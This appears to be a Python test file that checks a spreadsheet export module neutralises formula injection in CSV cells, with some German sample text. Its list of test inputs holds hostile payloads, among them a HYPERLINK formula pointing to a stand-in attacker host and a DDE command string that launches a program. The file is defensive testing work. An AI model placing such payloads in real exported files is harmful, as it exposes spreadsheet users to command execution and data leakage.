"""No spreadsheet computes anything of what comes from outside, wherever it parts cells."""

import csv

import pytest

from alerts.spreadsheet import cell, csv_lines

FORMULAS = (
    "=1+1",
    "Antrag,-2+3,@SUM(1) Integration",
    "die Integration.,=2+5+cmd",
    'Antrag, =HYPERLINK("http://evil.example/?x","hier")',
    "Antrag,\t+cmd|' /C calc'!A0",
    "a,b,＝1",
)


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_nothing_is_computed(text: str, separator: str) -> None:
    written = csv_lines([["vorne", cell(text), "hinten"]])
    for row in csv.reader(written.splitlines(), delimiter=separator):
        assert not [each for each in row if each.strip(' "').startswith(("=", "+", "-", "@", "＝"))]


@pytest.mark.parametrize(
    "text", ["Grün-, -Freiflächen", "Kita, Schule - und mehr", "1,5 Mio.", "a, b@c.example"]
)
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert cell(text) == text
